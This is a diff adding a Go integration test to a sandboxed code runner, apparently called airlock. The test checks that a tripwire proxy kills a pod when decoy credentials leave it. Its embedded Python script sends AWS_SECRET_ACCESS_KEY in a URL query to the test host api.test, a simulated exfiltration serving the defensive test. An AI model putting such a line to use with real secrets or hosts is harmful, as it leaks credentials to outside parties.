@@ -20,6 +20,7 @@ import (
 
 	"github.com/airlock-mcp/airlock/config"
 	"github.com/airlock-mcp/airlock/runtime"
+	"github.com/airlock-mcp/airlock/runtime/network/egress"
 )
 
 // nodeAddress is the InternalIP of node name (empty: the first node that
@@ -339,4 +340,48 @@ print("via B:", get("api.test", %q))
 	if err != nil || len(pods.Items) != 0 {
 		t.Errorf("session pods left after close: %d (%v)", len(pods.Items), err)
 	}
+}
+
+// A tripwire on the cluster: the pod gets its run's fake credentials
+// through the driver's work frame, and the moment one crosses this
+// replica's proxy the pod is deleted and the result says so.
+func TestTripwireOnCluster(t *testing.T) {
+	cs, _ := needCluster(t)
+	ctx := context.Background()
+	ns := testNamespace(t, cs)
+	node := nodeAddress(t, cs, "")
+	up := startUpstream(t, node)
+	cfg := netTestConfig(t, ns, node, up)
+	cfg.Network.Tripwires = true
+	cfg.StateDir = t.TempDir() // the interception CA's home
+	m, proxyPort := upNet(t, cfg)
+	fenceForProxies(t, cs, ns, node, proxyPort)
+
+	creds, err := (*egress.Secrets)(nil).Bind(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	creds.AddTripwires()
+	pol := m.o.Net.Policy.WithCredentials(creds)
+	code := fmt.Sprintf(`import os, time, urllib.request
+print("clean", urllib.request.urlopen("http://api.test:%[1]d/", timeout=20).status, flush=True)
+try:
+    urllib.request.urlopen("http://api.test:%[1]d/?k=" + os.environ["AWS_SECRET_ACCESS_KEY"], timeout=20)
+except Exception as e:
+    print("refused", e, flush=True)
+time.sleep(2)
+print("still running", flush=True)
+time.sleep(60)
+`, up.port)
+	res, err := m.Run(ctx, runtime.Request{Language: runtime.Python, Code: code, Limits: testLimits(), Egress: &pol, Env: creds.Env, HomeFiles: creds.Files})
+	if err != nil {
+		t.Fatalf("run: %v", err)
+	}
+	if res.Reason != runtime.ReasonTripwire || !strings.Contains(res.Stdout, "clean 200") || strings.Contains(res.Stdout, "still running") {
+		t.Errorf("reason %q stdout %q stderr %q: want the pod killed by the tripwire after one clean request", res.Reason, res.Stdout, res.Stderr)
+	}
+	if len(res.EgressDenied) != 1 || res.EgressDenied[0].Reason != egress.ReasonTripwire || res.EgressDenied[0].Host != "api.test" {
+		t.Errorf("egress_denied = %+v", res.EgressDenied)
+	}
+	up.only(t, node, 1) // the clean request alone
 }
